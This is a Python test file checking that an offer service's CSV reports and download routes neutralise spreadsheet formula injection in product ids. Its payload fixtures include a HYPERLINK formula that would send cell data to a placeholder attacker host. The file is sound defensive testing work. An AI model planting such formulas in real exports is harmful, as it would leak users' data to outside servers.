"""CSV reports against formula injection: a product id that a spreadsheet would run as a formula
is written as text (a leading `'`), in the report's CSV and in the two routes that serve it; a
figure stays a number, a negative one included."""

from __future__ import annotations

import csv
import io
from typing import Any

from offer_service.measurement.exposures import exposure
from offer_service.measurement.report import ReportQuery, build
from offer_service.measurement.report_csv import to_csv
from offer_service.types import now_ms
from tests.conftest import LiveServer
from tests.flows import ADMIN, PK, set_rules
from tests.measurement.test_report import PRODUCTS, day, ev, order

# One product id per character a spreadsheet starts a formula with (OWASP's list).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
# A carriage return inside an id: a spreadsheet would start a new row there.
INNER_CR = "x\r=1+1"


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def formula_report() -> dict[str, Any]:
    """v1 sees an offer of each formula product; the holdout visitor h1 buys a camera, so the
    incremental revenue per visitor is negative."""
    events = [
        exposure("v1", "product_page", holdout=False, arm=None, at_ms=day(0.5)),
        exposure("h1", "product_page", holdout=True, arm=None, at_ms=day(0.5)),
    ]
    events += [
        ev("impression", f"f{i}", "v1", 1, product_id=pid, arm=None)
        for i, pid in enumerate([*FORMULAS, INNER_CR])
    ]
    orders = [order("h-o1", 2, [("cam", 50000)], "h1")]
    q = ReportQuery("st", day(0), day(10), None, window_days=7, holdout_share=0.1)
    return build(q, events, [], orders, PRODUCTS, day(10))


def test_a_product_id_that_starts_a_formula_is_written_as_text() -> None:
    rows = cells(to_csv(formula_report()))
    keys = {r["key"] for r in rows if (r["section"], r["dimension"]) == ("breakdown", "product")}
    assert keys == {"'" + pid for pid in FORMULAS} | {INNER_CR}
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)


def test_a_carriage_return_in_a_cell_is_quoted_so_it_starts_no_row() -> None:
    text = to_csv(formula_report())
    breaking = [line for line in text.split("\n") if "\r" in line]
    cells = [cell for line in breaking for cell in line.split(",") if "\r" in cell]
    assert {cell.strip('"') for cell in cells} == {INNER_CR, "'\r=1+1"}
    assert all(cell[0] == cell[-1] == '"' for cell in cells)
    # Every other row is written as before: no quotes where none are needed.
    assert "report,,,attribution_window_days,7,,," in text.splitlines()


def test_a_negative_figure_stays_a_number() -> None:
    rows = cells(to_csv(formula_report()))
    (irpv,) = [
        r
        for r in rows
        if (r["section"], r["dimension"], r["metric"])
        == ("holdout", "", "incremental_revenue_per_visitor")
    ]
    assert irpv["value"] == "-50000.0"


def formula_catalog() -> list[dict[str, Any]]:
    """An anchor whose complements are the formula products (a tab or a carriage return at the
    start of an id is trimmed by the importer, so those two are left to the unit test)."""
    formulas = [pid for pid in FORMULAS if pid[0] in "=+-@"]
    item = {"url": "/p", "image_url": "/i.png", "currency": "USD", "category": "c"}
    return [
        {**item, "id": "anchor", "title": "Anchor", "price": 10000, "complements": formulas},
        *(
            {**item, "id": pid, "title": f"Formula {i}", "price": 2000}
            for i, pid in enumerate(formulas)
        ),
    ]


def test_the_metrics_and_dashboard_csv_neutralise_formulas(demo_server: LiveServer) -> None:
    formulas = [pid for pid in FORMULAS if pid[0] in "=+-@"]
    with demo_server.client() as c:
        # Every formula product offered on its own (not bundled under the anchor's id).
        set_rules(c, holdout_share=0.0, bundles=False)
        r = c.put("/v1/admin/catalog", json=formula_catalog(), headers=ADMIN)
        assert r.status_code == 200 and r.json()["rejected"] == [], r.text
        page = c.get(
            "/v1/offers",
            params={"key": PK, "surface": "product_page", "product_id": "anchor", "limit": 4},
        ).json()
        assert {o["product_id"] for o in page["offers"]} == set(formulas)
        batch = {
            "key": PK,
            "events": [
                {"id": f"csv-{i}", "type": "impression", "token": o["token"], "ts": now_ms()}
                for i, o in enumerate(page["offers"])
            ],
        }
        assert c.post("/v1/events", json=batch).json()["accepted"] == len(formulas)
        answers = [
            c.get("/v1/admin/metrics", headers={**ADMIN, "Accept": "text/csv"}),
            c.get("/v1/admin/metrics", params={"format": "csv"}, headers=ADMIN),
            c.get("/dashboard/report.csv", headers=ADMIN),
        ]
    for r in answers:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = cells(r.text)
        keys = {
            x["key"] for x in rows if (x["section"], x["dimension"]) == ("breakdown", "product")
        }
        assert {"'" + pid for pid in formulas} <= keys
        assert not any(k.startswith(("=", "+", "-", "@")) for k in keys)
